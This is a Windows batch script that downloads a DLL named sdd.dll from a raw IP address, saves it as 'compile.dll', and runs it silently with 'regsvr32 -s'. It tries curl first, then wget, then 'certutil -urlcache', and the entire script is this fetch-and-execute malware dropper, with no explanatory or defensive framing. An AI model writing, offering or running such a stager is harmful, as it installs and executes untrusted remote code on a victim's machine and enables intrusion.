@echo off
curl http://198.51.100.77/sdd.dll -o compile.dll
if not exist compile.dll (
	wget http://198.51.100.77/sdd.dll -O compile.dll
)
if not exist compile.dll (
	certutil.exe -urlcache -f http://198.51.100.77/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
